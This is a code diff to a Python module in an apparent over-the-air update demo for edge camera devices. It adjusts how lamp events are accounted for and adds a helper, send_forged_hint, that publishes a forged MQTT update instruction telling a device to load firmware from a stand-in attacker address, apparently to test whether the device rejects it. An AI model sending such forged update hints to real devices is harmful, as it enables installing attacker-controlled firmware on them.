@@ -1,4 +1,4 @@
-"""What the control room received, held against what there was to be seen."""
+"""What the control room received, held against what there was to be seen; and a thief who speaks like it."""
 
 from __future__ import annotations
 
@@ -9,10 +9,12 @@ from dataclasses import dataclass
 from pathlib import Path
 
 from ota_demo.camera import LIT, Camera
-from ota_demo.device import Device
-from vedette_edge.topics import Event
+from ota_demo.device import SITE, Device
+from vedette_edge.publish.base import Message
+from vedette_edge.publish.wire import Broker, Opened, Wire
+from vedette_edge.topics import Event, Topics
 
-__all__ = ["Account", "account_of", "read_events"]
+__all__ = ["Account", "account_of", "read_events", "send_forged_hint"]
 
 _STARTING = 6.0  # seconds from the end of an agent until the next one sees
 _EXCHANGE = 3.0  # seconds around the exchange of a model
@@ -43,6 +45,11 @@ class Account:
     dim_later: tuple[int, int]
 
     @property
+    def awake(self) -> int:
+        """Bright lamps for which nothing kept it from looking."""
+        return self.bright - self.starting - self.exchanging
+
+    @property
     def unexplained(self) -> int:
         """Bright lamps without an alarm and without a reason."""
         return self.bright - self.seen - self.starting - self.exchanging
@@ -62,7 +69,8 @@ def read_events(path: Path, node: str) -> list[Event]:
 def account_of(device: Device, events: Sequence[Event], camera: Camera, until: float) -> Account:
     """Return the account of a device that was switched off at a Unix time."""
     began = [event.start_time for event in events if event.type == "new"]
-    alarmed = {camera.lamp_at(moment) for moment in began}
+    # A clip that shows a lamp may begin before the lamp goes on.
+    alarmed = {camera.lamp_at(moment + LIT / 2) for moment in began}
     since = min(began)
     lamps = camera.lamps(since - LIT, until - LIT)
     bright = [lamp for lamp in lamps if lamp % 2 == 0]
@@ -70,8 +78,12 @@ def account_of(device: Device, events: Sequence[Event], camera: Camera, until: f
     falls = [moment for moment, _ in device.falls]
     exchanges = [moment for moment, state, _ in device.states if state in ("trial", "rollback")]
     starting = [one for one in missed if _near(one, falls, 0.0, _STARTING)]
-    exchanging = [one for one in missed if one not in starting and _near(one, exchanges, _EXCHANGE, _EXCHANGE)]
-    second = min((m for m, state, release in device.states if state == "trial" and release == 2), default=until)
+    exchanging = [
+        one for one in missed if one not in starting and _near(one, exchanges, _EXCHANGE, _EXCHANGE)
+    ]
+    second = min(
+        (m for m, state, release in device.states if state == "trial" and release == 2), default=until
+    )
     dim = [lamp for lamp in lamps if lamp % 2]
     early = [lamp for lamp in dim if camera.began_at(lamp) < second]
     late = [lamp for lamp in dim if camera.began_at(lamp) >= second]
@@ -91,3 +103,17 @@ def _lost(events: Sequence[Event]) -> int:
     for event in events:
         numbers[event.boot].add(event.seq)
     return sum(max(those) - len(those) for those in numbers.values())
+
+
+def send_forged_hint(port: int, node: str) -> bytes:
+    """Tell a device over MQTT what to load, and from where; return what was sent."""
+    payload = b'{"campaign": "evil", "url": "http://203.0.113.7/", "sha256": "00"}'
+    wire = Wire(Broker("127.0.0.1", port), client_id="")
+    wire.open()
+    try:
+        assert isinstance(wire.happened.get(timeout=10), Opened)
+        wire.send(Message(Topics(SITE, node).ota_desired, payload, qos=1))
+        wire.happened.get(timeout=10)  # the broker has it
+    finally:
+        wire.close()
+    return payload
